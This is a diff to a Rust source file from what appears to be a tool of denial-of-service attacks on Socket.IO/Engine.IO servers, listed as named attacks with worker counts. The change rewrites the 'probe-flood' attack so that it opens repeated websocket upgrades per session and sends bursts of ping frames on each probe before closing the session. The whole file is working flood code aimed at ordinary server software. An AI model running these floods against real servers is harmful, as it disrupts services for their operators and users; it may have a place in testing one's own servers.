@@ -2,7 +2,6 @@
 //! probed, and where an answer waits for a window that never opens.
 
 use std::sync::Arc;
-use std::sync::atomic::Ordering;
 use std::time::Duration;
 
 use anyhow::{Context as _, Result, bail};
@@ -13,7 +12,7 @@ use tokio::io::{AsyncRead, AsyncReadExt as _, AsyncWriteExt as _};
 use tokio_rustls::TlsConnector;
 use tokio_rustls::client::TlsStream;
 
-use crate::client::{PATH, open_polling, read_away, tcp, text, websocket};
+use crate::client::{PATH, answer, frame, open_polling, post, read_away, tcp, text, websocket};
 use crate::{Attack, Field};
 
 pub(crate) const ATTACKS: &[Attack] = &[
@@ -26,8 +25,8 @@ pub(crate) const ATTACKS: &[Attack] = &[
     },
     Attack {
         name: "probe-flood",
-        title: "Upgrades that are probed, and packets on the probe without a pause",
-        unit: "packets",
+        title: "Upgrades that are probed, and pings on the probe, as many as it takes, again and again",
+        unit: "probes",
         workers: 32,
         work: |field| Box::pin(async move { probe_flood(&field).await }),
     },
@@ -49,17 +48,20 @@ async fn early_frame(field: &Field) -> Result<()> {
 }
 
 async fn probe_flood(field: &Field) -> Result<()> {
-    const BATCH: u64 = 50;
     let mut polling = tcp(field, None).await?;
     let sid = open_polling(&mut polling).await?;
-    let mut stream = websocket(field, Some(&sid), None, "").await?;
-    stream.write_all(&text("2probe")).await?;
-    let batch = text("42[\"cursor\",[1,2,\"red\"]]").repeat(BATCH as usize);
-    while field.is_on() {
-        stream.write_all(&batch).await?;
-        field.done.fetch_add(BATCH, Ordering::Relaxed);
-        tokio::task::yield_now().await;
+    // a session that is over is a place less in use, and nobody else is to suffer for that
+    for _ in 0..20 {
+        let mut stream = websocket(field, Some(&sid), None, "").await?;
+        stream.write_all(&text("2probe")).await?;
+        // (one that says something else is closed at once)
+        let pings = frame(0x89, &[0; 125]).repeat(60);
+        stream.write_all(&pings).await?;
+        field.done();
+        let _ = tokio::time::timeout(Duration::from_millis(20), read_away(&mut stream)).await;
     }
+    polling.write_all(post(&sid, "1").as_bytes()).await?;
+    answer(&mut polling).await?;
     Ok(())
 }
 
